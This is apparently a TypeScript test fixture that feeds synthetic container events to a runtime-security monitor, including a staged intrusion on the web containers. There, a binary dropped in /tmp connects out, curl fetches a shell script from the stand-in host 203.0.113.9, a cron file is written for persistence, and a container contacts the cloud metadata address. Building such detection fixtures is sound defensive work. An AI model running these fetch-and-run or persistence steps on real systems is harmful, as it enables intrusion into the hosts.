import { canaryWorkload } from '../../proto/fleet.js';
import type { First } from '../../proto/records.js';
import { aConnect, anExec } from './behaviours.js';
import type { Stage } from './stage.js';
import { aContainer, aFirst, aMinute, aRunning, aTally } from './synthetic-agent.js';
import { SyntheticExecutor } from './synthetic-executor.js';

const services = [
  { workload: 'shop/web', owner: 'storefront', environment: 'production', image: 'shop/web:8f3c', replicas: 3, exe: '/usr/sbin/nginx' },
  { workload: 'shop/api', owner: 'storefront', environment: 'production', image: 'shop/api:2.4', replicas: 2, exe: '/usr/local/bin/node' },
  { workload: 'shop/redis', owner: 'platform', environment: 'production', image: 'redis:7', replicas: 1, exe: '/usr/bin/redis-server' },
  { workload: 'pay/worker', owner: 'payments', environment: 'production', image: 'pay/worker:19', replicas: 2, exe: '/usr/bin/python3' },
  { workload: 'stage/web', owner: 'storefront', environment: 'staging', image: 'shop/web:9a01', replicas: 1, exe: '/usr/sbin/nginx' },
] as const;

/** A few services with lines, sightings, a life, a history, alerts, asks, a session, a release, recycles and a gap: something for every page to show. */
export async function makeLively(stage: Stage): Promise<{ stop(): void }> {
  const { controller, bus, names } = stage;
  const post = (path: string, body: unknown) => controller.ok('POST', path, body);
  const us = Date.now() * 1_000;
  const minute = Math.floor(us / 60_000_000);
  const hosts = [stage.agent('host-17'), stage.agent('host-41')];
  let n = 100;
  const placed = services.flatMap(service =>
    Array.from({ length: service.replicas }, (_, replica) => {
      const { workload, image, owner, environment } = service;
      const name = `${workload.replace('/', '-')}-${replica + 1}`;
      const container = aContainer({ n: ++n, workload, imageName: image, name, startedAtUs: us - 9 * 86_400_000_000 + n });
      return { service, container, host: replica % 2, running: aRunning(container, { owner, environment }) };
    }),
  );
  const executor = new SyntheticExecutor(
    bus,
    names,
    hosts[0]!,
    placed.filter(one => one.host === 0).map(one => one.running),
  );
  await executor.beat();
  await hosts[1]!.beat(placed.filter(one => one.host === 1).map(one => one.running));

  for (const { service, container, host } of placed) {
    const main = anExec({ exe: service.exe });
    const child = anExec({ exe: service.exe, parent: service.exe, user: 101 });
    const shell = anExec({ exe: '/bin/busybox', applet: 'sh', script: '/docker-entrypoint.sh' });
    const firsts: First[] = [
      aFirst(container, main, us - 3_600_000_000),
      aFirst(container, child, us - 3_500_000_000),
      aFirst(container, shell, us - 3_600_000_000, { argv: ['sh', '/docker-entrypoint.sh'] }),
      aFirst(container, { kind: 'listen', protocol: 'tcp', port: 8080, exe: service.exe, session: 'main' }, us - 3_590_000_000),
      aFirst(container, aConnect({ exe: service.exe }), us - 3_400_000_000),
      aFirst(container, aConnect({ exe: service.exe, peer: '169.254.169.254', port: 80 }), us - 3_300_000_000),
      aFirst(container, { kind: 'write', path: '/var/cache/app/index', executable: false }, us - 3_200_000_000),
      aFirst(container, { kind: 'settings', setting: 'user', value: '0' }, us - 3_600_000_000),
      aFirst(container, { kind: 'settings', setting: 'readOnly', value: 'false' }, us - 3_600_000_000),
    ];
    const minutes = Array.from({ length: 59 }, (_, at) => aMinute(container, minute - 60 + at));
    const tallies = minutes.flatMap(({ minute: at }) => [aTally(container, main, at, 2), aTally(container, child, at, 3 + (at % 4))]);
    const lives = (['start', 'healthy', 'reload'] as const).map(
      (event, at) => ({ kind: 'life', container: container.id, event, atUs: us - 3_600_000_000 + at }) as const,
    );
    await hosts[host]!.tell([container], [...firsts, ...minutes, ...tallies, ...lives]);
  }
  // One of the hosts proves that its alerts arrive, the other does not.
  const canary = aContainer({ n: 1, workload: canaryWorkload, imageName: 'canary', name: 'canary' });
  await hosts[0]!.tell(
    [canary],
    [aFirst(canary, anExec({ exe: '/canary' }), us), aFirst(canary, aConnect({ exe: '/canary', peer: '127.0.0.1' }), us)],
  );
  const [web, web2] = placed.map(one => one.container);
  await hosts[0]!.tell(
    [web!],
    [{ kind: 'gap', id: 'g1', cause: 'ring', containers: [web!.id], fromUs: us - 1_800_000_000, toUs: us - 1_795_000_000, count: 1_204 }],
  );
  await stage.settled();
  for (const one of ['shop/web', 'shop/api', 'shop/redis'])
    await post(`/workloads/${encodeURIComponent(one)}/mode`, { mode: 'alert', by: 'ada' });
  await post('/workloads/shop%2Fredis/mode', { mode: 'protect', recycle: ['high', 'critical'], by: 'ada' });
  await post('/deploys/begin', { workload: 'shop/api', revision: '8f3c', change: 'CHG-311', by: 'ci' });

  const now = () => Date.now() * 1_000;
  const drop = anExec({ exe: '/tmp/x', file: 'drift', parent: '/usr/sbin/nginx', user: 101 });
  await hosts[0]!.tell(
    [web!],
    [aFirst(web!, drop, now(), { argv: ['/tmp/x', '-o', '203.0.113.9:443'], parentExe: '/usr/sbin/nginx', uid: 101, gid: 101 })],
  );
  await hosts[1]!.tell(
    [web2!],
    [
      aFirst(web2!, anExec({ exe: '/usr/bin/curl', parent: '/bin/busybox' }), now(), { argv: ['curl', '-fsS', 'http://203.0.113.9/a.sh'] }),
      aFirst(web2!, aConnect({ peer: '203.0.113.9', port: 443, exe: '/usr/bin/curl' }), now(), { address: '203.0.113.9' }),
      aFirst(web2!, { kind: 'write', path: '/etc/cron.d/job', executable: false }, now()),
      {
        kind: 'session',
        id: 's1',
        how: 'exec',
        container: web2!.id,
        argv: ['sh'],
        tty: true,
        fromUs: now() - 60_000_000,
        atUs: now(),
        commands: ['sh', 'ls -l /etc', 'cat /etc/nginx/nginx.conf'],
        commandsTotal: 3,
        unsure: [],
        files: ['/tmp/notes'],
        person: { name: 'ada', uid: 1000, how: 'login of the client on this host' },
      },
    ],
  );
  await stage.settled();
  await post('/recycle', { targets: [web!.name], by: 'ada', why: 'a drill' });
  await stage.settled();
  return { stop: () => executor.stop() };
}
